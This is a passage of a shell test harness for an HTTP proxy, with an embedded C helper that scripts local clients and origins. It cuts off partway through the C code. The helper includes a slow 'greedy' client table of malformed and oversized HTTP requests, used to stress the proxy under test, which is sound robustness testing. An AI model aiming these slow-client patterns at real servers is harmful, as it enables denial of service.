#!/bin/sh
# tests.sh - what proxy promises: each behaviour is one function, named as a sentence
#
#   ./tests.sh                 every test, some at a time (JOBS=4)
#   ./tests.sh NAME...         those whose names contain NAME
#   ./tests.sh slow [NAME...]  the same with the numbers of real life
#   ./tests.sh list            their names
#   ./tests.sh fuzz SECONDS    libFuzzer on the parsers, SECONDS in all
#   ./tests.sh bench           CPU time per request beside the nginx and haproxy found, and a quiet client beside greedy ones
#
# PROXY=path chooses the binary, CC the compiler of the helpers. AGAIN=N: if at most N fail, each gets
# a second chance, and has to pass three times alone.
# Lines are TAP; the last reads: N passed, N failed, N skipped
#
#   1 run      choosing, running and judging tests
#   2 helpers  start, stop, get, wait_for and their kind; peer, a scripted client and origin
#   3 tests    command line, listening, forward, access, messages, reverse, the wire, logs,
#              process, workers, cache, for scripts, real clients, the tree itself
#   4 fuzz     5 bench     6 main

LC_ALL=C
export LC_ALL
unset http_proxy https_proxy all_proxy no_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY NO_PROXY LISTEN_FDS
case $0 in /*) self=$0 ;; *) self=$PWD/$0 ;; esac
tree=${self%/*}
: "${PROXY:=$tree/proxy}" "${CC:=cc}" "${JOBS:=4}" "${bound:=20}"
case $PROXY in /*) ;; *) PROXY=$PWD/$PROXY ;; esac
export PROXY CC bound slow

# ==== 1. run ================================================================================

names() {  # the tests whose names contain one of the words given, or all
	sed -n 's/^test_\([A-Za-z0-9_]*\)() {.*/\1/p' "$self" | while read -r name; do
		[ $# = 0 ] && echo "$name"
		for word; do
			case $name in *"${word#test_}"*) echo "$name"; break ;; esac
		done
	done
}

run() {  # run tests beside one another, say how each went, count them
	names "$@" >"$tmp/names"
	echo "1..$(wc -l <"$tmp/names" | tr -d ' ')"
	passed=0 failed=0 skipped=0
	xargs -P "$JOBS" -n 1 sh "$self" --one <"$tmp/names" >"$tmp/fifo" &
	while read -r verdict name; do
		i=$((passed + failed + skipped + 1))
		case $verdict in
		ok) passed=$((passed + 1)); echo "ok $i - $name" ;;
		skip) skipped=$((skipped + 1)); echo "ok $i - $name # SKIP $(cat "$tmp/$name.log")" ;;
		*)
			failed=$((failed + 1))
			echo "not ok $i - $name"
			cp "$tmp/$name.log" "$tmp/$name.failed"
			sed 's/^/#   /' "$tmp/$name.log"
			;;
		esac
	done <"$tmp/fifo"
	wait
	[ "$failed" = 0 ] || [ "$failed" -gt "${AGAIN:-0}" ] || again
	echo "$passed passed, $failed failed, $skipped skipped"
	[ "$failed" = 0 ] && [ "$passed" != 0 ]
}

again() {  # what failed beside others, for want of time, has to pass three times alone; a crash stays one
	for log in "$tmp"/*.failed; do
		name=${log##*/} name=${name%.failed}
		grep -qi 'sanitizer\|had ended by itself\|ended with status' "$log" && continue
		for i in 1 2 3; do [ "$(sh "$self" --one "$name")" = "ok $name" ] || continue 2; done
		failed=$((failed - 1)) passed=$((passed + 1))
		echo "# $name passed three times, alone"
	done
}

one() {  # run the test named in a process group of its own, bounded; say how it went
	mkdir "$tmp/$1"
	limit=$bound
	case $1 in *_split_octets | the_examples_* | only_tls_1_2_* | attacks_are_looked_for_in_time_*) limit=$((bound * 3)) ;; esac  # they are many in a row
	"$peer" bound "$limit" sh "$self" --body "$1" >"$tmp/$1.log" 2>&1 </dev/null
	status=$?
	[ $status = 124 ] && echo "not done after $limit s" >>"$tmp/$1.log"
	case $status in 0) verdict=ok ;; 77) verdict=skip ;; *) verdict=failed ;; esac
	rm -rf "${tmp:?}/$1"
	echo "$verdict $1"
}

body() {  # the test itself, in its own directory
	cd "$tmp/$1" || exit 1
	n=0 m=0 pids='' helpers='' wrap='' pid='' url='' port=''
	: >allowed
	trap finish EXIT
	"test_$1"
	exit 0
}

finish() {  # end what the test started, and judge what it left behind
	status=$?
	trap - EXIT
	for p in $helpers; do kill -KILL "$p" 2>/dev/null; done
	for p in $pids; do
		kill -TERM "$p" 2>/dev/null || { echo "a proxy had ended by itself"; status=1; }
		{ "$peer" nap 4000; kill -TERM "$p"; "$peer" nap 1000; kill -KILL "$p"; } 2>/dev/null &
		wait "$p"
		ended=$?
		[ $ended = 0 ] || { echo "a proxy told to stop ended with status $ended"; status=1; }
	done
	[ $status = 77 ] && exit 77
	cat err.* >errors 2>/dev/null
	if grep -Evf allowed errors >unexpected; then
		[ $status = 0 ] && echo "unexpected on stderr:" && status=1
		sed 's/^/stderr: /;40q' unexpected
	fi
	for f in out.*; do
		[ -f "$f" ] && grep -Ev '^(https?://[^/]*|unix:.*)$' "$f" && echo "unexpected on stdout" && status=1
	done
	exit "$status"
}

# ==== 2. helpers ============================================================================

fail() { echo "$*"; exit 1; }
skip() { echo "$*"; exit 77; }
need() { for tool; do command -v "$tool" >/dev/null 2>&1 || skip "no $tool here"; done; }
is() { [ "$1" = "$2" ] || fail "${3:-it} is '$1', not '$2'"; }
has() { case $1 in *"$2"*) ;; *) fail "${3:-it} has no '$2': $1" ;; esac; }
hasnt() { case $1 in *"$2"*) fail "${3:-it} has '$2': $1" ;; esac; }
like() { printf '%s\n' "$1" | grep -Eq -e "$2" || fail "${3:-it} is not like '$2': $1"; }
may_say() { printf '%s\n' "$@" >>allowed; }  # these may appear on a proxy's stderr

wait_for() {  # until the command succeeds, at most 10 s
	tries=0
	until "$@"; do
		tries=$((tries + 1))
		[ $tries -lt 500 ] || return 1
		"$peer" nap 20
	done
}
gone() { ! kill -0 "$1" 2>/dev/null; }
lines_in() { [ "$(wc -l <"$2")" -ge "$1" ]; }
said_urls() { lines_in "$listeners" "out.$n" || gone "$pid"; }

start_as() {  # run proxy with exactly these arguments; set pid, port, url (the first), urls
	n=$((n + 1)) listeners=0
	for arg; do
		case $arg in -l* | --listen*) listeners=$((listeners + 1)) ;; esac
	done
	[ $listeners -gt 0 ] || listeners=1
	: >"out.$n"
	$wrap "$PROXY" "$@" >"out.$n" 2>"err.$n" </dev/null &
	pid=$!
	pids="$pids $pid"
	wait_for said_urls
	lines_in $listeners "out.$n" || fail "no URL from: proxy $*
$(cat "err.$n")"
	urls=$(cat "out.$n")
	IFS= read -r url <"out.$n"
	port=${url##*:}
}
start() { start_as -q -l 0 "$@"; }
start_logged() { start_as -l 0 -o log "$@"; }  # the access log goes to the file log

behind() {  # an origin that echoes what it gets, and in front of it a proxy with these options
	start -r /=echo
	inner=$port
	start -r "http://127.0.0.1:$inner" "$@"
}

exits() {  # the proxy started last ends by itself with this status
	wait "$pid"
	is $? "$1" "proxy's exit status"
	pids=${pids% "$pid"}
}
stop() { kill -TERM "$pid" && exits 0; }

try() {  # run proxy to its end; set status, out and err
	"$peer" alarm 3 "$PROXY" "$@" >tried.out 2>tried.err </dev/null
	status=$?
	out=$(cat tried.out) err=$(cat tried.err)
	hasnt "$err" Sanitizer
}
refuses() {  # a usage error whose message is like the expression
	want=$1
	shift
	try "$@"
	is "$status" 2 "exit status of: proxy $*; stderr: $err; it"
	is "$out" '' "stdout of: proxy $*; it"
	like "$err" '^proxy: [^ ]' "the message of: proxy $*; it"
	like "$err" "$want" "the message of: proxy $*; it"
}

get() { curl -q -sS -m 15 "$@"; }                      # the content, on stdout
code() { curl -q -sS -m 15 -D head -o body -w '%{http_code}' "$@" 2>curl.err; }
connect_code() { curl -q -s -m 15 -p -D head -o body -w '%{http_connect}' "$@"; }
answers() { is "$(code "$2")" "$1" "status of $2"; }
now_answers() { [ "$(code "$2")" = "$1" ]; }             # for wait_for
header() { grep -i "^$1:" head | sed 's/^[^:]*: *//' | tr -d '\r'; }  # a field of the last answer

# field NAME: its values in the JSON that echo answered, in the file body; member NAME: a string
if command -v jq >/dev/null; then
	field() { jq -r --arg n "$1" '.fields[]|select((.[0]|ascii_downcase)==($n|ascii_downcase))|.[1]' body; }
	member() { jq -r --arg n "$1" '.[$n]' body; }
elif command -v python3 >/dev/null; then
	field() { python3 -c 'import json,sys
for k, v in json.load(open("body"))["fields"]:
    if k.lower() == sys.argv[1].lower(): print(v)' "$1"; }
	member() { python3 -c 'import json,sys; print(json.load(open("body"))[sys.argv[1]])' "$1"; }
else
	field() { skip "neither jq nor python3 here"; }
	member() { field; }
fi

# "peer" is the other side of a test. "talk PORT ACTION..." plays a client, "origin ACTION..." an
# origin on port $origin that does the actions on every connection ("--" parts the first
# connection's from the next one's); what connection K received is in the file got$m.K
#
#   send:TEXT  drip:MS:TEXT  pour:N  stuff:N (what fits; says how much)  shut  reset  hang  nap:MS
#   trickle:MS:TEXT (drips until something comes)  times:N:TEXT (over and over)
#   head  read:TEXT (until it comes)  take:N  sink:N  rest  save:N:FILE  mirror
#   wait:FILE  touch:FILE  again
talk() { "$peer" talk "$@"; }
helper() {  # run peer in the background until the test ends; what it says first is in $said
	m=$((m + 1))
	: >"said.$m"
	"$peer" "$@" >"said.$m" 2>"complaint.$m" </dev/null &
	helper=$!
	helpers="$helpers $helper"
	wait_for lines_in 1 "said.$m" || fail "peer $* says nothing: $(cat "complaint.$m")"
	said=$(cat "said.$m")
}
origin() { helper listen "got$((m + 1))" "$@"; origin=$said; }

tree() {  # a process and all below it
	echo "$1"
	for child in $(cat "/proc/$1/task"/*/children 2>/dev/null); do tree "$child"; done
}
each_of_tree() {  # a number about each process of a tree, added up
	sum=0
	for p in $(tree "$2"); do sum=$((sum + $("$1" "$p" || echo 0))); done
	echo $sum
}
descriptors_of() { find "/proc/$1/fd" -mindepth 1 2>/dev/null | wc -l; }
memory_of() { sed -n 's/^VmRSS:[^0-9]*\([0-9]*\).*/\1/p' "/proc/$1/status"; }
ticks_of() { sed 's/.*) //' "/proc/$1/stat" | awk '{ print $12 + $13 }'; }
descriptors() { each_of_tree descriptors_of "$1"; }
memory() { each_of_tree memory_of "$1"; }  # KiB
grew_less_than() {  # since `before`, in KiB
	grown=$(($(memory "$pid") - before))
	sanitized || [ "$grown" -lt "$1" ] || fail "memory grew by $grown KiB"
}
ticks() { each_of_tree ticks_of "$1"; }    # of CPU time, 1/100 s
need_proc() { [ -r /proc/self/status ] || skip "no /proc here"; }
sanitized() { grep -q __asan_init "$PROXY"; }
now() { date +%s; }

with_file() {  # proxies started from here on see FILE in place of SYSTEM-FILE: with_file FILE SYSTEM-FILE
	[ "$(id -u)" = 0 ] && unshare -m true 2>/dev/null || skip "needs root and unshare"
	printf 'mount --bind "$1" "$2" && shift 2 && exec "$@"\n' >bind.sh
	wrap="$wrap unshare -m sh $PWD/bind.sh $PWD/$1 $2"
}
have_ipv6() { "$peer" port ::1 >/dev/null 2>&1 || skip "no IPv6 here"; }
from_tree() { [ -f "$tree/$1" ] || skip "no $1 here"; }

peer_c() { cat <<'END'
/* peer - the other side of a test: a scripted client or origin, and what the shell lacks */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#ifdef __linux__
#include <sys/prctl.h>
#endif

static char in[8 << 20];            /* what came; in[0..seen) has been asked for */
static size_t have, seen;
static int fd = -1, record = 1;     /* the connection; where a copy of what comes goes */
static char page[1 << 16];

static void quit(const char *why, const char *what) {
    fprintf(stderr, "peer: %s %s: %s\n", why, what, strerror(errno));
    exit(1);
}
static void nap(long ms) {
    struct timespec t = { ms / 1000, ms % 1000 * 1000000 };
    nanosleep(&t, NULL);
}
static void say(const char *form, ...) {
    va_list ap;
    va_start(ap, form);
    vprintf(form, ap);
    fflush(stdout);
    va_end(ap);
}

/* ---- sockets ---- */
static int sock(const char *host, const char *port, int serve, int backlog) {
    struct addrinfo hint = { .ai_socktype = SOCK_STREAM, .ai_flags = AI_NUMERICHOST }, *a;
    int s, one = 1;
    if (getaddrinfo(host, port, &hint, &a)) quit("address", host);
    if ((s = socket(a->ai_family, SOCK_STREAM, 0)) == -1) quit("socket", host);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (serve ? bind(s, a->ai_addr, a->ai_addrlen) || (backlog >= 0 && listen(s, backlog))
              : connect(s, a->ai_addr, a->ai_addrlen))
        quit(serve ? "bind" : "connect", port);
    freeaddrinfo(a);
    return s;
}
static int usock(const char *path, int type, int serve) {      /* "@..." is an abstract one */
    struct sockaddr_un u = { .sun_family = AF_UNIX };
    socklen_t n = sizeof u;
    int s = socket(AF_UNIX, type, 0);
    snprintf(u.sun_path, sizeof u.sun_path, "%s", path);
    if (*path == '@') u.sun_path[0] = 0, n = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(path));
    if (s == -1 || (serve ? bind(s, (struct sockaddr *)&u, n) || (type == SOCK_STREAM && listen(s, 100))
                          : connect(s, (struct sockaddr *)&u, n)))
        quit(serve ? "bind" : "connect", path);
    return s;
}
static int reach(const char *where) {               /* PORT or unix:PATH */
    return strncmp(where, "unix:", 5) ? sock("127.0.0.1", where, 0, 0) : usock(where + 5, SOCK_STREAM, 0);
}
static int port_of(int s) {
    struct sockaddr_in6 a;
    socklen_t n = sizeof a;
    getsockname(s, (struct sockaddr *)&a, &n);
    return ntohs(a.sin6_port);       /* the port stands at the same place in sockaddr_in */
}

/* ---- actions ---- */
static int more(void) {             /* 0: the other side has closed */
    ssize_t n;
    if (seen == have) seen = have = 0;
    if (have == sizeof in) quit("too much", "received");
    n = read(fd, in + have, sizeof in - have);
    if (n <= 0) return 0;
    if (write(record, in + have, (size_t)n) != n) quit("write", "copy");
    have += (size_t)n;
    return 1;
}
static size_t until(const char *mark, size_t n) {   /* octets up to and with the mark; 0: closed */
    for (;;) {
        char *p = memmem(in + seen, have - seen, mark, n);
        if (p) return (size_t)(p - (in + seen)) + n;
        if (seen == have) seen = have = 0;
        if (!more()) return 0;
    }
}
static void put(const char *p, size_t n) {
    while (n > 0) {
        ssize_t k = write(fd, p, n);
        if (k <= 0) quit("send", "failed");
        p += k, n -= (size_t)k;
    }
}
static char *text(const char *s, size_t *n) {       /* \r \n \t \0 \\ \xHH decoded */
    char *t = malloc(strlen(s) + 1);
    for (*n = 0; *s; s++) {
        if (*s != '\\') { t[(*n)++] = *s; continue; }
        switch (*++s) {
        case 'r': t[(*n)++] = '\r'; break;
        case 'n': t[(*n)++] = '\n'; break;
        case 't': t[(*n)++] = '\t'; break;
        case '0': t[(*n)++] = '\0'; break;
        case 'x': { char h[3] = { s[1], s[2], 0 }; t[(*n)++] = (char)strtol(h, NULL, 16); s += 2; break; }
        default: t[(*n)++] = *s;
        }
    }
    t[*n] = 0;
    return t;
}
static void take(long long left, int to) {          /* exactly so many octets; to: -1 nowhere */
    while (left > 0) {
        size_t n = have - seen;
        char *p = in + seen;
        if (n == 0) {
            ssize_t k = read(fd, p = in, sizeof in);
            if (k <= 0) errno = 0, quit("closed", "early");
            n = (size_t)k, seen = have = 0;
            if ((long long)n > left) have = n, seen = (size_t)left, n = (size_t)left;
        } else {
            if ((long long)n > left) n = (size_t)left;
            seen += n;
        }
        if (to >= 0 && write(to, p, n) != (ssize_t)n) quit("write", "file");
        left -= (long long)n;
    }
}
static void stuff(long long most) {                 /* send until nothing goes for 300 ms */
    long long sent = 0;
    int flags = fcntl(fd, F_GETFL);
    struct pollfd p = { fd, POLLOUT, 0 };
    fcntl(fd, F_SETFL, flags | O_NONBLOCK);
    while (sent < most && poll(&p, 1, 300) > 0) {
        ssize_t k = write(fd, page, most - sent < (long long)sizeof page ? (size_t)(most - sent) : sizeof page);
        if (k < 0 && errno != EAGAIN) quit("stuff", "failed");
        if (k > 0) sent += k;
    }
    fcntl(fd, F_SETFL, flags);
    say("stuffed %lld\n", sent);
}
static int heard(int ms) {          /* something has come, or the end */
    struct pollfd p = { fd, POLLIN, 0 };
    return poll(&p, 1, ms) != 0;
}
static void act(char **action) {
    char **first = action, *t;
    size_t n, len;
    for (; *action && strcmp(*action, "--"); action++) {
        char *verb = *action, *arg = strchr(verb, ':');
        len = arg ? (size_t)(arg - verb) : strlen(verb);
        arg = arg ? arg + 1 : "";
#define IS(word) (len == sizeof word - 1 && !memcmp(verb, word, len))
        if (IS("send")) t = text(arg, &n), put(t, n);
        else if (IS("drip")) {
            long ms = strtol(arg, &arg, 10);
            t = text(arg + 1, &n);
            for (size_t i = 0; i < n; i++) put(t + i, 1), nap(ms);
        } else if (IS("trickle")) {
            long ms = strtol(arg, &arg, 10);
            t = text(arg + 1, &n);
            for (size_t i = 0; i < n && !heard((int)ms); i++) put(t + i, 1);
        } else if (IS("times")) {
            long left = strtol(arg, &arg, 10);
            t = text(arg + 1, &n);
            for (; left > 0; left--) put(t, n);
        } else if (IS("head")) {
            if (!(n = until("\r\n\r\n", 4))) {
                if (have == seen) return;           /* closed between messages: all is well */
                errno = 0, quit("closed in a", "head");
            }
            seen += n;
        } else if (IS("read")) {
            t = text(arg, &n);
            if (!(n = until(t, n))) errno = 0, quit("closed before", arg);
            seen += n;
        } else if (IS("take")) {
            long long left = atoll(arg);
            while ((long long)(have - seen) < left)
                if (!more()) errno = 0, quit("closed in", verb);
            seen += (size_t)left;
        } else if (IS("sink")) take(atoll(arg), -1);
        else if (IS("save")) {
            long long left = strtoll(arg, &arg, 10);
            int f = open(arg + 1, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            take(left, f), close(f);
        } else if (IS("rest")) while (more()) seen = have;
        else if (IS("mirror")) {
            put(in + seen, have - seen), seen = have;
            while (more()) put(in + seen, have - seen), seen = have;
        } else if (IS("pour"))
            for (long long left = atoll(arg); left > 0; left -= (long long)n)
                put(page, n = left < (long long)sizeof page ? (size_t)left : sizeof page);
        else if (IS("stuff")) stuff(atoll(arg));
        else if (IS("shut")) shutdown(fd, SHUT_WR);
        else if (IS("reset")) {
            struct linger l = { 1, 0 };
            setsockopt(fd, SOL_SOCKET, SO_LINGER, &l, sizeof l), close(fd);
            return;
        } else if (IS("hang")) for (;;) pause();
        else if (IS("nap")) nap(atol(arg));
        else if (IS("wait")) { struct stat st; while (stat(arg, &st)) nap(10); }
        else if (IS("touch")) close(open(arg, O_WRONLY | O_CREAT, 0644));
        else if (IS("again")) {
            if (seen == have && (seen = have = 0, !more())) return;
            action = first - 1;
        } else errno = 0, quit("no such action", verb);
    }
}
static char **next_script(char **a) {               /* past "--", or the same again */
    char **p = a;
    while (*p && strcmp(*p, "--")) p++;
    return *p ? p + 1 : a;
}
static void serve(const char *prefix, char **action) {
    int s = sock("127.0.0.1", "0", 1, 1000);
    signal(SIGCHLD, SIG_IGN);
    say("%d\n", port_of(s));
    for (int k = 1;; k++, action = next_script(action)) {
        if ((fd = accept(s, NULL, NULL)) == -1) { k--; continue; }
        if (fork() == 0) {
            char name[4096];
            snprintf(name, sizeof name, "%s.%d", prefix, k);
            record = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            close(s);
            act(action);
            exit(0);
        }
        close(fd);
    }
}

/* ---- an origin that answers after so many ms, with the most connections it had at once ---- */
static void count(long ms) {
    static struct pollfd set[1025];
    static struct timespec due[1025], now;           /* tv_sec 0: nothing is asked */
    int s = sock("127.0.0.1", "0", 1, 1000), n = 0, most = 0, asked = 0;
    say("%d\n", port_of(s));
    fcntl(s, F_SETFL, O_NONBLOCK);
    for (;; n += n < 1024 && (set[n].fd = accept(s, NULL, NULL)) != -1) {
        for (int i = n; i-- > 0; ) {                 /* who has closed goes before the new one counts */
            ssize_t k = recv(set[i].fd, in, sizeof in, MSG_DONTWAIT);
            if (k == 0 || (k < 0 && errno != EAGAIN)) close(set[i].fd), set[i] = set[--n], due[i] = due[n], due[n].tv_sec = 0;
            else if (k > 0) clock_gettime(CLOCK_MONOTONIC, &due[i]), due[i].tv_nsec += ms * 1000000;
        }
        if (n > most) most = n;
        clock_gettime(CLOCK_MONOTONIC, &now), asked = 0;
        for (int i = 0; i < n; i++) {
            long long left = due[i].tv_sec ? (due[i].tv_sec - now.tv_sec) * 1000000000LL + due[i].tv_nsec - now.tv_nsec : 1;
            if (left <= 0) dprintf(set[i].fd, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n%4d", most), due[i].tv_sec = 0;
            asked += due[i].tv_sec != 0, set[i].events = POLLIN;
        }
        set[n] = (struct pollfd){ s, POLLIN, 0 };
        poll(set, (nfds_t)n + 1, asked ? 1 : -1);
    }
}

/* ---- many clients in one loop: N requests over C connections, counted by status ---- */
static int may_reach(const char *port) {             /* -1: nobody listens there */
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)), .sin_addr = { htonl(INADDR_LOOPBACK) } };
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s != -1 && connect(s, (struct sockaddr *)&a, sizeof a)) close(s), s = -1;
    return s;
}
/* total 0: steadily, some at a time, until the file stop is there, or nobody listens any more */
static void load(const char *port, int conns, long total, const char *what, long long content) {
    int steady = total == 0;
    long refused = 0;
    struct one { int fd; long long out, body; size_t have; int status; char head[4096]; } *c;
    struct pollfd *set;
    long begun = 0, done = 0, numbered = 0, tally[601] = { 0 };   /* [600]: broken off */
    size_t n;
    char *request = text(what, &n), *number = strchr(request, '#'), *form = number ? strdup(number) : NULL;
    int closing = strcasestr(what, "connection: close") != NULL;
    c = calloc((size_t)conns, sizeof *c), set = calloc((size_t)conns, sizeof *set);
    for (int i = 0; i < conns; i++) c[i].fd = set[i].fd = -1;
    if (steady) total = 1L << 40;
    while (done < total) {
        if (steady) nap(5);
        if (steady && total > begun && !access("stop", F_OK)) total = begun;
        if (done == total) break;
        for (int i = 0; i < conns; i++) {
            struct one *o = &c[i];
            if (o->fd != -1 && o->out >= 0) continue;      /* busy */
            if (begun == total) continue;
            if (o->fd == -1) {
                o->fd = set[i].fd = steady ? may_reach(port) : sock("127.0.0.1", port, 0, 0);
                if (o->fd == -1) {
                    refused++, total = begun;
                    continue;
                }
                fcntl(o->fd, F_SETFL, O_NONBLOCK);
            }
            begun++, o->out = 0, o->have = 0, o->status = 0, o->body = 0;
            set[i].events = POLLIN | POLLOUT;
        }
        if (poll(set, (nfds_t)conns, steady ? 100 : -1) == -1) quit("poll", port);
        for (int i = 0; i < conns; i++) {
            struct one *o = &c[i];
            ssize_t k = 1;
            if (o->fd == -1 || !set[i].revents) continue;
            if (set[i].revents & POLLOUT) {
                long long whole = (long long)n + content;
                if (number && !o->out) {             /* every # becomes a digit of another number each time */
                    long left = ++numbered;
                    for (size_t d = strlen(form); d-- > 0; ) if (form[d] == '#') number[d] = (char)('0' + left % 10), left /= 10;
                }
                while (o->out < whole) {
                    const char *p = o->out < (long long)n ? request + o->out : page;
                    long long m = o->out < (long long)n ? (long long)n - o->out : whole - o->out;
                    if ((k = send(o->fd, p, m < (long long)sizeof page ? (size_t)m : sizeof page, MSG_NOSIGNAL)) <= 0) break;
                    o->out += k;
                }
                if (o->out == whole) set[i].events = POLLIN;
                k = 1;
            }
            if (set[i].revents & (POLLIN | POLLHUP | POLLERR)) {
                char *end;
                if (o->status == 0) {
                    k = read(o->fd, o->head + o->have, sizeof o->head - 1 - o->have);
                    if (k > 0) {
                        o->head[o->have += (size_t)k] = 0;
                        if ((end = strstr(o->head, "\r\n\r\n"))) {
                            char *cl = strcasestr(o->head, "\r\ncontent-length:");
                            o->status = atoi(o->head + 9);
                            o->body = (cl && cl < end ? atoll(cl + 17) : 0) - (long long)(o->head + o->have - end - 4);
                        }
                    }
                } else if ((k = read(o->fd, in, sizeof in)) > 0) o->body -= k;
                if (k < 0 && errno == EAGAIN) k = 1;
                if (k > 0 && o->status && o->body <= 0) {
                    tally[o->status > 599 || o->status < 0 ? 600 : o->status]++, done++, o->out = -1, set[i].events = 0;
                    end = strcasestr(o->head, "\r\nconnection: close");
                    if (closing || (end && end < strstr(o->head, "\r\n\r\n"))) close(o->fd), o->fd = set[i].fd = -1;
                }
            }
            if (k <= 0) {
                if (o->out >= 0) tally[600]++, done++;
                close(o->fd), o->fd = set[i].fd = -1;
            }
        }
    }
    for (int i = 0; i < 600; i++) if (tally[i]) say("%d:%ld ", i, tally[i]);
    say("broken:%ld", tally[600]);
    if (refused) say(" refused:%ld", refused);
    say("\n");
}

/* ---- N slow and greedy clients in one loop, each of which does a little once a second; those cut off come again ---- */
static const struct greed { const char *first, *next; int reads; } greed[] = {      /* reads: octets a second; \1 is 150 letters, \2 30 ranges */
    { "GET /1k HTTP/1.1\r\nHost: h\r\nA: ", "a", 0 },                               /* a head without end */
    { "POST /post HTTP/1.1\r\nHost: h\r\nContent-Length: 1000000\r\n\r\n", "\1", 0 },
    { "GET /1m HTTP/1.1\r\nHost: h\r\n\r\n", "", 0 },
    { "GET /1m HTTP/1.1\r\nHost: h\r\n\r\n", "", 1024 },
    { "", "", 0 },
    { "POST /post HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n", "1\r\nz\r\n", 0 },
    { "POST /post HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n", "1;a=\1\1\1\1\1\1\1\1\r\nz\r\n", 0 },
    { "POST /post HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n", "A: \1\r\n", 0 },
    { "GET /1k HTTP/1.1\r\nHost: h\r\n", "A: \1\1\1\1\1\1\1\1\r\n", 0 },  /* a head beyond all limits */
    { "", "GET /1k HTTP/1.1\r\nHost: h\r\nRange: bytes=0-\2\2\2\2\r\n\r\n", 2048 },
};
static size_t greed_text(char *to, const char *t) {
    size_t n = 0;
    for (; *t; t++)
        if (*t < 3) for (int i = 0; i < 30; i++) memcpy(to + n, *t == 1 ? "aaaaa" : ",2-44", 5), n += 5;
        else to[n++] = *t;
    return n;
}
static void greedy(const char *port, int clients) {
    enum { KINDS = sizeof greed / sizeof *greed };
    struct rlimit r;
    struct timespec begun, now;
    char first[KINDS][4096], next[KINDS][4096];
    size_t first_n[KINDS], next_n[KINDS];
    int *fds, small = 4096;
    getrlimit(RLIMIT_NOFILE, &r), r.rlim_cur = r.rlim_max, setrlimit(RLIMIT_NOFILE, &r);
    if (r.rlim_max < (rlim_t)clients * 2 + 1000) clients = ((int)r.rlim_max - 1000) / 2;    /* the proxy has two for each */
    for (int k = 0; k < KINDS; k++) first_n[k] = greed_text(first[k], greed[k].first), next_n[k] = greed_text(next[k], greed[k].next);
    if (clients < 1 || !(fds = malloc((size_t)clients * sizeof *fds))) quit("too few", "descriptors");
    for (int i = 0; i < clients; i++) fds[i] = -1;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    for (long long turn = 0;; turn++) {
        int i = (int)(turn % clients), k = i % KINDS;
        for (;; nap(1)) {                           /* the turns of a second are spread over it */
            clock_gettime(CLOCK_MONOTONIC, &now);
            if (((now.tv_sec - begun.tv_sec) * 1000000000LL + now.tv_nsec - begun.tv_nsec) / 1000 >= turn * 1000000 / clients) break;
        }
        if (turn && i == 0) say("%d\n", clients);
        if (fds[i] == -1) {
            struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)), .sin_addr = { htonl(INADDR_LOOPBACK) } };
            if ((fds[i] = socket(AF_INET, SOCK_STREAM, 0)) == -1) continue;
            setsockopt(fds[i], SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
            if (connect(fds[i], (struct sockaddr *)&a, sizeof a)) { close(fds[i]), fds[i] = -1; continue; }
            if (first_n[k]) send(fds[i], first[k], first_n[k], MSG_NOSIGNAL);
        } else {
            char end;
            int gone = recv(fds[i], &end, 1, MSG_PEEK | MSG_DONTWAIT) == 0;
            if (greed[k].reads) gone |= recv(fds[i], page, (size_t)greed[k].reads, MSG_DONTWAIT) == 0;
            else if (first_n[k] && greed[k].next[0]) gone |= recv(fds[i], page, sizeof page, MSG_DONTWAIT) >= 0;    /* refused */
            if (next_n[k]) gone |= send(fds[i], next[k], next_n[k], MSG_NOSIGNAL | MSG_DONTWAIT) == -1 && errno != EAGAIN;
            if (gone) close(fds[i]), fds[i] = -1;
        }
    }
}

/* ---- a quiet client: how long N requests took, in microseconds: the median and the 99th part of a hundred ---- */
static int longer(const void *a, const void *b) { return *(const int *)a > *(const int *)b ? 1 : -1; }
static void quiet(const char *port, int requests, const char *what) {
    size_t n, head;
    char *request = text(what, &n), *length;
    int *us = calloc((size_t)requests, sizeof *us);
    struct timespec a, b;
    fd = sock("127.0.0.1", port, 0, 0), record = open("/dev/null", O_WRONLY);
    for (int i = 0; i < requests; i++, nap(2)) {
        clock_gettime(CLOCK_MONOTONIC, &a);
        put(request, n);
        if (!(head = until("\r\n\r\n", 4))) errno = 0, quit("closed", "early");
        length = memmem(in + seen, head, "\r\nContent-Length: ", 18);
        seen += head;
        take(length ? atoll(length + 18) : 0, -1);
        clock_gettime(CLOCK_MONOTONIC, &b);
        us[i] = (int)((b.tv_sec - a.tv_sec) * 1000000 + (b.tv_nsec - a.tv_nsec) / 1000);
    }
    qsort(us, (size_t)requests, sizeof *us, longer);
    say("%d %d\n", us[requests / 2], us[requests * 99 / 100]);
}

/* ---- processes ---- */
static volatile sig_atomic_t late;
static pid_t child;
static void end_group(int sig) {
    late = sig;
    kill(-child, SIGKILL);
}
static void end_orphans(void) {                     /* what left the group, as a daemon does */
#ifdef PR_SET_CHILD_SUBREAPER
    char path[64];
    long p, any;
    snprintf(path, sizeof path, "/proc/self/task/%ld/children", (long)getpid());
    do {
        FILE *f = fopen(path, "r");
        for (any = 0; f && fscanf(f, "%ld", &p) == 1; any++) kill((pid_t)p, SIGKILL);
        if (f) fclose(f);
        while (any && waitpid(-1, NULL, WNOHANG) > 0) ;
        if (any) nap(2);
    } while (any);
#endif
}
static int bounded(unsigned seconds, char **command) {
    int status;
